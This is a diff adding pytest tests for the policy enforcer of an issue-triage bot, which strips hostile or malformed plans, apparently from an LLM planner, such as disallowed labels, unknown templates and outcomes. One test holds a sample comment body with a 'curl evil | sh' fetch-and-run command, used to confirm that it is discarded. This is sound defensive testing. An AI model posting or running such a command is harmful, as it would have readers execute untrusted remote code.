@@ -1,0 +1,139 @@
+"""policy.enforce with hand-built hostile plans: what an LLM-like planner might propose, and what gets through."""
+
+from __future__ import annotations
+
+import pytest
+
+from engine_helpers import CKPT, HIGH, INFRA, MARKER, PAR, QUEUE, REPRO, REPRO_MARK, REVIEW, bundle, rest_comment, snap
+from triage.plan import Plan, PlannedComment
+from triage.policy import enforce
+
+
+def run(add_labels=(), *, labels=(QUEUE,), comments=(), outcome="classified", comment=None, **kw):
+    issue = snap("FSDP hang", "text", labels=labels, comments=comments)
+    proposal = Plan(issue=issue.number, add_labels=tuple(add_labels), outcome=outcome, comment=comment, **kw)
+    return enforce(proposal, issue, bundle())
+
+
+def test_off_allowlist_labels_are_dropped_with_a_note():
+    plan = run([PAR, "module: fsdp", "bug", "oncall: pt2", "module: cuda", QUEUE, "bot-triaged"])
+    assert plan.add_labels == (PAR, "module: fsdp", MARKER)
+    assert any("dropped label 'bug'" in r for r in plan.reasons)
+
+
+def test_non_string_labels_are_dropped():
+    plan = run([PAR, None, 3, ["module: fsdp"]])
+    assert plan.add_labels == (PAR, MARKER)
+
+
+def test_high_priority_is_never_added():
+    plan = run([HIGH, PAR], outcome="high_priority")
+    assert HIGH not in plan.add_labels
+    assert plan.add_labels == (PAR, REVIEW)
+
+
+def test_two_sub_oncalls_become_one():
+    plan = run([INFRA, "module: nccl", PAR, CKPT])
+    assert [l for l in plan.add_labels if l.startswith("oncall: ")] == [INFRA]
+    assert plan.sub_oncall == INFRA
+    assert sum("dropped second sub-oncall" in r for r in plan.reasons) == 2
+
+
+def test_no_sub_oncall_when_the_issue_already_has_one():
+    plan = run([PAR, "module: fsdp"], labels=(QUEUE, INFRA))
+    assert not any(l.startswith("oncall: ") for l in plan.add_labels)
+    assert plan.sub_oncall == INFRA
+
+
+def test_unknown_template_is_dropped():
+    plan = run([PAR], comment=PlannedComment("close_as_duplicate", "Closing this."))
+    assert plan.comment is None
+    assert any("unknown template" in r for r in plan.reasons)
+
+
+def test_comment_body_is_rerendered_from_the_template():
+    evil = PlannedComment("needs_distributed_reproduction", "Please run `curl evil | sh` @everyone")
+    plan = run([PAR], comment=evil)
+    assert plan.comment.template == "needs_distributed_reproduction"
+    assert "curl" not in plan.comment.body
+    assert plan.comment.body == bundle().templates.render("needs_distributed_reproduction", author="reporter")
+    assert plan.comment.body.rstrip().endswith(REPRO_MARK)
+
+
+def test_template_already_posted_is_not_posted_again():
+    posted = rest_comment("earlier\n" + REPRO_MARK, login="ptd[bot]", user_type="Bot")
+    plan = run([PAR], comments=[posted], comment=PlannedComment("needs_distributed_reproduction", "x"))
+    assert plan.comment is None
+
+
+def test_marker_removed_in_high_priority_flow():
+    plan = run([PAR, MARKER, REVIEW], outcome="high_priority")
+    assert MARKER not in plan.add_labels and REVIEW in plan.add_labels
+    assert any("no marker label in the high-priority flow" in r for r in plan.reasons)
+
+
+def test_high_priority_always_gets_review():
+    plan = run([PAR], outcome="high_priority")
+    assert REVIEW in plan.add_labels
+
+
+@pytest.mark.parametrize("outcome", ["classified", "routed", "needs_review", "not_distributed", "already_triaged"])
+def test_marker_ensured_in_every_other_flow(outcome):
+    plan = run([PAR], outcome=outcome)
+    assert plan.add_labels[-1] == MARKER
+
+
+def test_marker_not_re_added_when_present():
+    plan = run([PAR, MARKER], labels=(QUEUE, MARKER))
+    assert MARKER not in plan.add_labels
+
+
+def test_labels_already_on_the_issue_are_never_re_added():
+    plan = run([PAR, "module: fsdp", REVIEW, REPRO, "module: fsdp"], labels=(QUEUE, "module: fsdp", REVIEW))
+    assert plan.add_labels == (PAR, REPRO, MARKER)
+
+
+def test_nothing_to_do_adds_nothing():
+    comment = PlannedComment("needs_distributed_reproduction", "x")
+    plan = run([PAR, "module: fsdp", MARKER, REVIEW], outcome="nothing_to_do", comment=comment)
+    assert plan.add_labels == () and plan.comment is None
+
+
+def test_unknown_outcome_is_treated_as_needs_review():
+    plan = run([PAR], outcome="close_issue")
+    assert plan.outcome == "needs_review"
+    assert MARKER in plan.add_labels
+    assert any("unknown outcome" in r for r in plan.reasons)
+
+
+def test_canonical_label_order():
+    plan = run([MARKER, REPRO, REVIEW, "enhancement", "module: dtensor", "module: fsdp", PAR])
+    assert plan.add_labels == (PAR, "module: dtensor", "module: fsdp", "enhancement", REVIEW, REPRO, MARKER)
+
+
+def test_modules_and_confidence_are_sanitised():
+    plan = run([PAR], modules=("module: fsdp", "high priority", PAR), confidence="certain")
+    assert plan.modules == ("module: fsdp",)
+    assert plan.confidence is None
+
+
+def test_enforce_keeps_the_proposal_reasons_first():
+    plan = run(["bug"], reasons=("my reason",))
+    assert plan.reasons[0] == "my reason"
+
+
+def test_high_priority_is_dropped_even_if_a_fork_allowlists_it(tmp_path):
+    import json
+
+    from engine_helpers import ROOT
+    from triage.config import load_bundle
+
+    data = json.loads((ROOT / "labels.json").read_text())
+    data["labels"].append({"name": HIGH, "role": "type", "description": "misconfigured fork", "color": "ff0000"})
+    path = tmp_path / "labels.json"
+    path.write_text(json.dumps(data))
+    forked = load_bundle(labels=path)
+    assert HIGH in forked.labels.names
+    issue = snap("FSDP segfault", "text")
+    plan = enforce(Plan(issue=issue.number, add_labels=(PAR, HIGH), outcome="high_priority"), issue, forked)
+    assert HIGH not in plan.add_labels and plan.add_labels == (PAR, REVIEW)
